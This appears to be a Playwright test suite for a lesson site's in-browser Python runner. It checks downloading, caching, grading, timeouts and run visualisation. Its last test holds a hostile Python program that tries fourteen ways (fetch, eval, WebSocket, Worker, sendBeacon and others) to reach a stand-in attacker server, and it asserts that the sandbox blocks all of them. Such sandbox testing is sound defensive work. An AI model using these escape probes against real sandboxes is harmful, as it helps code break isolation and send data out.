/** A reader's program in Python: fetched when it is asked for, judged, stopped, shown on the figure, and locked in. */
import { readFileSync } from "node:fs";
import { expect, type Page, test } from "@playwright/test";
import { expectAccessible } from "../support/accessibility.ts";
import { type EvilServer, startEvil } from "../support/evil-server.ts";
import { forbidStorage } from "../support/forbid-storage.ts";

const OWN = "/lessons/circle-method/own/";
/** Python starts in every room anew. */
const PATIENCE = { timeout: 45_000 };

const RIGHT = `from collections import deque
def schedule(n):
    seats = deque(range(1, n + n % 2))
    rounds = []
    for _ in range(len(seats)):
        order = [n + n % 2, *seats]
        pairs = zip(order, reversed(order[len(order) // 2:]))
        rounds.append([(a, b) for a, b in pairs if a <= n and b <= n])
        seats.rotate(1)
    return rounds
`;

async function open(page: Page, text: string): Promise<void> {
  await page.goto(OWN);
  await page.getByRole("radio", { name: "Python" }).check();
  await page.getByRole("button", { name: /^Get Python: \d+\.\d MB$/ }).click();
  await expect(page.getByText("Python is here.")).toBeVisible(PATIENCE);
  await write(page, text);
}

async function write(page: Page, text: string): Promise<void> {
  await page.locator(".pce-textarea").fill(text);
}

const press = (page: Page) => page.getByRole("button", { name: "Run", exact: true }).click();

async function verdict(page: Page, text: string): Promise<string> {
  await write(page, text);
  await press(page);
  await expect(page.locator("[data-verdict]")).toBeVisible(PATIENCE);
  await expect(page.locator("iframe")).toHaveCount(0);
  return page.locator("[data-verdict]").innerText();
}

test("Python comes when it is asked for, is kept apart, and is there at once the next time", {
  tag: "@full",
}, async ({ page }) => {
  const asked: string[] = [];
  page.on("request", (request) => asked.push(new URL(request.url()).pathname));
  await page.goto(OWN);
  await page.getByRole("radio", { name: "Python" }).check();
  await expect(page.getByRole("button", { name: "Run", exact: true })).toBeHidden();
  await expectAccessible(page, { part: ".own", state: "Python is offered" });
  await page.locator(".pce-textarea").press("Control+Enter");
  await expect(page.getByText("Python has to come first.")).toBeVisible();
  await expect(page.getByRole("button", { name: /^Get Python/ })).toBeFocused();
  expect(asked.filter((path) => path.startsWith("/python/"))).toEqual([]);
  await page.keyboard.press("Enter");
  // It has been told to run, and runs.
  await expect(page.locator("[data-verdict] h3")).toBeFocused(PATIENCE);
  expect(asked.filter((path) => path.startsWith("/python/"))).toHaveLength(3);
  const kept = await page.evaluate(async () => {
    const names = await caches.keys();
    const lists = await Promise.all(
      names.map(async (name) => (await (await caches.open(name)).keys()).map(({ url }) => `${name} ${url}`)),
    );
    return lists.flat().filter((entry) => entry.includes("/python/"));
  });
  expect(kept).toHaveLength(3);
  expect(kept.every((entry) => entry.startsWith("kibitz-python "))).toBe(true);
  expect(readFileSync(new URL("../../../dist/offline.json", import.meta.url), "utf8")).not.toContain(
    "/python/",
  );
  // It is not asked for again.
  await page.route("**/python/**", (route) => route.abort());
  await page.reload();
  await expect(page.getByRole("radio", { name: "Python" })).toBeChecked();
  await expect(page.getByRole("button", { name: /^Get Python/ })).toBeHidden();
  expect(await verdict(page, RIGHT)).toContain("Right on all 41 inputs.");
  expect(asked.filter((path) => path.startsWith("/python/"))).toHaveLength(3);
});

test("where nothing may be kept it runs until the page is left", { tag: "@full" }, async ({ page }) => {
  await forbidStorage(page);
  await page.addInitScript(() => {
    Object.defineProperty(window, "caches", {
      get() {
        throw new DOMException("forbidden", "SecurityError");
      },
    });
  });
  await open(page, RIGHT);
  expect(await verdict(page, RIGHT)).toContain("Right on all 41 inputs.");
});

test("its coming can be canceled, and a connection that breaks is told", { tag: "@full" }, async ({
  page,
}) => {
  let isBroken = false;
  let letGo = (): void => undefined;
  const waiting = new Promise<void>((resolve) => {
    letGo = resolve;
  });
  await page.route("**/python/core.*", async (route) => {
    if (isBroken) return route.abort();
    await waiting;
    return route.abort().catch(() => undefined);
  });
  await page.goto(OWN);
  await page.getByRole("radio", { name: "Python" }).check();
  await page.getByRole("button", { name: /^Get Python/ }).click();
  await expect(page.getByRole("progressbar")).toBeVisible();
  await page.getByRole("button", { name: "Cancel" }).click();
  await expect(page.getByText("Canceled. Nothing was kept.")).toBeVisible();
  letGo();
  isBroken = true;
  await page.getByRole("button", { name: /^Get Python/ }).click();
  await expect(page.getByText("Python did not come")).toBeVisible();
  expect(await page.evaluate(() => caches.has("kibitz-python"))).toBe(false);
});

test("a right program is right, and what is wrong is told with its smallest input, line and column", {
  tag: "@full",
}, async ({ page }) => {
  await open(page, RIGHT);
  expect(await verdict(page, RIGHT)).toContain("Right on all 41 inputs.");
  const same = await verdict(
    page,
    "def schedule(n):\n    return [[[i, i + 1] for i in range(1, n, 2)]] * (n - 1)\n",
  );
  expect(same).toContain("schedule(3)");
  expect(same).toContain("1 and 2 meet twice, in rounds 1 and 2");
  expect(same).toContain("It gave [[[1, 2]], [[1, 2]]]");
  expect(await verdict(page, "def schedule(n):\n    rounds = []\n")).toContain("It gave back None");
  expect(await verdict(page, "def schedule(n)\n    return 1\n")).toContain(
    "Line 1, column 16: expected ':'.",
  );
  expect(await verdict(page, "def shedule(n):\n    return 1\n")).toContain("no function “schedule”");
  const thrown = await verdict(page, "def schedule(n):\n    print('seats', n)\n    return seat[n]\n");
  expect(thrown).toContain("error in line 3: NameError: name 'seat' is not defined");
  await page.getByText("What it printed").click();
  await expect(page.locator(".own__log")).toHaveText("line 2 seats 2");
  expect(await verdict(page, "import numpy\n")).toContain("Only Python’s standard library is here.");
  const asks = await verdict(page, "def schedule(n):\n    return int(input())\n");
  expect(asks).toContain("there is no input() here");
});

test("the standard library is there", async ({ page }) => {
  const names =
    "abc bisect collections copy dataclasses datetime decimal enum fractions functools heapq itertools";
  const more = "json math operator queue random re statistics string textwrap time types typing";
  const text = `import ${`${names} ${more}`.split(" ").join(", ")}
@functools.cache
def fib(n): return n if n < 2 else fib(n - 1) + fib(n - 2)
def schedule(n):
    heap = [3, 1, 2]
    heapq.heapify(heap)
    print(fib(60), heapq.heappop(heap), collections.Counter("aab"))
`;
  await open(page, text);
  expect(await verdict(page, text)).toContain("It gave back None");
  await page.getByText("What it printed").click();
  await expect(page.locator(".own__log")).toHaveText("line 7 1548008755920 1 Counter({'a': 2, 'b': 1})");
});

test("what has no end ends, and the next program is not its heir", { tag: "@full" }, async ({ page }) => {
  await open(page, "");
  expect(await verdict(page, "def schedule(n):\n    while True: pass\n")).toContain(
    "stopped in line 2 after 2 seconds",
  );
  const stubborn =
    "def schedule(n):\n    while True:\n        try:\n            while True: n += 1\n        except BaseException: pass\n";
  expect(await verdict(page, stubborn)).toContain("after 2 seconds");
  expect(await verdict(page, "def schedule(n):\n    return schedule(n)\n")).toContain(
    "Its calls went too deep",
  );
  const deep = "import sys\nsys.setrecursionlimit(10**9)\ndef schedule(n):\n    return schedule(n)\n";
  expect(await verdict(page, deep)).toContain("does a recursion never end?");
  // No line of the program runs here, so nobody counts.
  await write(page, "import itertools\ndef schedule(n):\n    return sum(itertools.repeat(1))\n");
  await press(page);
  await expect(page.locator("iframe")).toHaveCount(1);
  await page.getByRole("button", { name: "Stop" }).click();
  await expect(page.locator("iframe")).toHaveCount(0);
  await expect(page.getByText("Stopped.", { exact: true })).toBeVisible();
  await press(page);
  await expect(page.locator("[data-verdict]")).toContainText("said nothing for five seconds", PATIENCE);
  await expect(page.locator("iframe")).toHaveCount(0);
  expect(await verdict(page, RIGHT)).toContain("Right on all 41 inputs.");
});

test("its run plays on the figure, line by line, with its variables", { tag: "@full" }, async ({ page }) => {
  await open(page, RIGHT);
  await verdict(page, RIGHT);
  await page.getByRole("button", { name: "Watch this run" }).click();
  const figure = page.locator("#own-run");
  await expect(figure).toBeFocused(PATIENCE);
  await figure.getByText("Watch", { exact: true }).click();
  await figure.focus();
  for (let step = 0; step < 8; step++) await page.keyboard.press("ArrowRight");
  await expect(figure).toContainText(/seats becomes |pairs becomes /);
  await expect(figure.getByRole("row", { name: "seats 1, 2, 3, 4, 5" })).toBeVisible();
});

test.describe("a hostile program", () => {
  let evil: EvilServer;
  test.beforeEach(async () => {
    evil = await startEvil();
  });
  test.afterEach(() => evil.close());

  test("reaches nobody", async ({ page }) => {
    const text = `import js
from pyodide.code import run_js
from pyodide.http import open_url, pyfetch
probes = {
  "fetch": lambda: js.fetch("http://${evil.host}/fetch"),
  "fetch of its own": lambda: js.Object.getPrototypeOf(js.self).fetch("http://${evil.host}/proto"),
  "pyfetch": lambda: pyfetch("http://${evil.host}/pyfetch").send(None),
  "open_url": lambda: open_url("http://${evil.host}/open"),
  "xhr": lambda: xhr(),
  "run_js": lambda: run_js("fetch('http://${evil.host}/run')"),
  "eval": lambda: js.eval("fetch('http://${evil.host}/eval')"),
  "Function": lambda: js.Function.new("return fetch('http://${evil.host}/function')")(),
  "importScripts": lambda: js.importScripts("http://${evil.host}/scripts"),
  "socket": lambda: js.WebSocket.new("ws://${evil.host}/ws"),
  "events": lambda: js.EventSource.new("http://${evil.host}/es"),
  "worker": lambda: js.Worker.new("http://${evil.host}/worker"),
  "package": lambda: js.pyodide.loadPackage("http://${evil.host}/package.whl"),
  "beacon": lambda: js.navigator.sendBeacon("http://${evil.host}/beacon", "x"),
}
def xhr():
    request = js.XMLHttpRequest.new()
    request.open("GET", "http://${evil.host}/xhr", False)
    request.send()
def schedule(n):
    for name, probe in probes.items():
        try:
            probe()
        except BaseException as error:
            print(name, "blocked", type(error).__name__)
        else:
            print(name, "went through")
`;
    await open(page, text);
    await verdict(page, text);
    await page.getByText("What it printed").click();
    await expect(page.locator(".own__log li")).toHaveCount(14);
    await page.waitForTimeout(500);
    expect(evil.hits).toEqual([]);
  });
});
